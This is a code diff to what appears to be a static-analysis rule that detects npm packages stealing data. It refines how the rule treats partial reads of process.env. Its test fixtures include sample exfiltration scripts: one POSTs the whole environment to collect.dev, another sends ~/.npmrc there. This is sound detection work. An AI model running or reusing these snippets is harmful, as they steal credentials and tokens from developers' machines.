@@ -2,6 +2,9 @@ import { isNearby, isOwnComputer } from '../../ownComputer.ts';
 import {
   callsNamed,
   callsOf,
+  objectOf,
+  Op,
+  opOf,
   pattern,
   receiverOf,
   resolve,
@@ -129,6 +132,12 @@ export const packageStealsData = defineRule({
       {
         files: {
           'index.js':
+            "const env = { ...process.env };\nfetch('https://collect.dev/e', { method: 'POST', headers: { a: env.HOME }, body: JSON.stringify(env) });\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
             "const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n",
         },
       },
@@ -166,6 +175,12 @@ export const packageStealsData = defineRule({
         files: {
           'index.js':
             "const shot = require('screenshot-desktop');\nshot({ filename: 'out.png' }).then(() => console.log('done'));\nfetch('https://api.dev/ping');\n",
+        },
+      },
+      {
+        files: {
+          'index.mjs':
+            "const env = { ...defaults, ...process.env };\nconst id = env.STORE_ID;\nfetch('https://oauth2.example.com/token', { method: 'POST', body: new URLSearchParams({ id, secret: env.STORE_SECRET }) });\n",
         },
       },
       {
@@ -217,14 +232,25 @@ function sendsEnvironment(script: ScriptFacts, sent: readonly number[]): boolean
   const whole = /\.\.\.process\.env\b(?!\s*[.[])|[:({,[]\s*process\.env\s*[,})\]]/;
   const names = new Set<string>();
   const texts: string[] = [];
-  for (const value of sent.flatMap((one) => [one, ...backwardSlice(script, one)]).slice(0, 400)) {
+  const seen = sent.flatMap((one) => [one, ...backwardSlice(script, one)]).slice(0, 400);
+  for (const value of seen) {
     const text = show(script, value);
-    if (whole.test(text) && !CHECKED.test(text)) return true;
+    if (whole.test(text) && !CHECKED.test(text) && !isReadInPart(script, value, seen)) return true;
     texts.push(text);
     // A variable that is the environment, unless only a part of it is read.
     if (/^[\w$]{1,60}$/.test(text) && isEnvironment(show(script, resolve(script, value)))) names.add(text);
   }
   return [...names].some((name) => !texts.some((text) => text.startsWith(`${name}.`) || text.startsWith(`${name}[`)));
+}
+
+/** `const env = { ...defaults, ...process.env }`: an object that has a name, of which only single members are used. */
+function isReadInPart(script: ScriptFacts, value: number, seen: readonly number[]): boolean {
+  if (opOf(script, value) !== Op.object) return false;
+  const members = seen.filter((one) => opOf(script, one) === Op.member);
+  const parts = new Set(members.map((one) => objectOf(script, one)));
+  const named = seen.filter((one) => one !== value && resolve(script, one) === value);
+  const read = members.filter((one) => resolve(script, objectOf(script, one)) === value);
+  return read.length > 0 && named.every((one) => parts.has(one));
 }
 
 /** Data put into a name that is looked up. */
